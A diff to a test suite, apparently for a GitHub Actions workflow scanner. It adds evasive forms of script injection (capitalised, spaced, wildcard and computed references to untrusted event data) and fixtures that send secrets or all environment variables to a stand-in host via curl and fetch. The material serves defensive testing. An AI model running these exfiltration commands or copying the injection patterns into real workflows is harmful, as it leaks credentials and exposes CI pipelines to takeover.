@@ -108,6 +108,23 @@ describe("what a workflow has run for strangers, or of strangers:", () => {
     ["a text by its name in brackets", byStranger(run(`echo \${{ github.event['issue']['title'] }}`)), CODE],
     ["a text in a call", byStranger(run(`echo \${{ format('{0}', github.event.issue.title) }}`)), CODE],
     ["the whole event", byStranger(run(`echo '\${{ toJSON(github.event) }}'`)), CODE],
+    ["a text in capitals", byStranger(run(`echo \${{ GitHub.Event.Issue.Title }}`)), CODE],
+    ["a text with spaces", byStranger(run(`echo \${{ github . event . issue [ 'title' ] }}`)), CODE],
+    ["a text by a star", byStranger(run(`echo \${{ join(github.event.*.title) }}`)), CODE],
+    ["a text by a computed name", byStranger(run(`echo \${{ github[format('event')].issue.title }}`)), CODE],
+    ["all commits", byStranger(run(`echo '\${{ toJSON(github.event.commits) }}'`)), CODE],
+    ["all that a run knows", byStranger(run(`echo '\${{ toJSON(github) }}'`)), CODE],
+    [
+      "a text between strings that look like a comparison",
+      byStranger(run(`echo \${{ format('x==', github.event.issue.title, '') }}`)),
+      CODE,
+    ],
+    [
+      "a revision in capitals",
+      byStranger(checkout(`\${{ GITHUB.event.pull_request.HEAD.sha }}`).replace("actions/c", "Actions/C")),
+      CODE,
+    ],
+    ["a revision of the whole event", byStranger(checkout(`\${{ fromJSON(toJSON(github.event)).x }}`)), CODE],
     ["a revision by a variable", byStranger(checkout(`\${{ env.REF }}`)), CODE],
     ["a revision by a variable of the shell", byStranger(run("git checkout $REF")), CODE],
   ])("%s", async (_, changes, expected) => {
@@ -121,6 +138,10 @@ describe("what a workflow has run for strangers, or of strangers:", () => {
     ["code of Deno that is here", withSteps(run("deno run -A scripts/build.mjs"))],
     ["a script that is here", withSteps(run("source ./env.sh"))],
     ["a comparison", byStranger(run(`echo \${{ github.event.issue.title == 'x' }}`))],
+    ["another name of a run", byStranger(run(`echo \${{ github.sha }} \${{ github.event_name }}`))],
+    ["the hash of a commit", byStranger(run(`echo \${{ github.event.commits[0].id }}`))],
+    ["an address in a string", byStranger(run(`echo \${{ format('https://github.com/{0}', github.sha) }}`))],
+    ["a word in a string", byStranger(run(`echo \${{ format('github {0}', github.sha) }}`))],
     ["a number of the event", byStranger(run(`echo \${{ github.event.issue.number }}`))],
     [
       "an action of the repository",
@@ -267,6 +288,7 @@ describe("secrets that a step could hand over, and lockfiles that it no longer h
     ["a variable over two lines", sent('curl https://a.example \\\n  -d "$KEY"'), REACHES],
     ["code of Node", sent("node -e \"fetch('https://a.example/' + process.env.KEY)\""), REACHES],
     ["all variables", sent("printenv | curl -d @- https://a.example"), REACHES],
+    ["a secret in capitals", withSteps(run(`curl -d '\${{ SECRETS . KEY }}' https://a.example`)), REACHES],
     ["the secret itself", withSteps(run(`curl -d '\${{ secrets.KEY }}' https://a.example`)), REACHES],
     ["npm beyond the lockfile", release(WORKFLOW.replace("npm ci", "npm install")), TOOL],
   ])("%s", async (_, changes, expected) => {
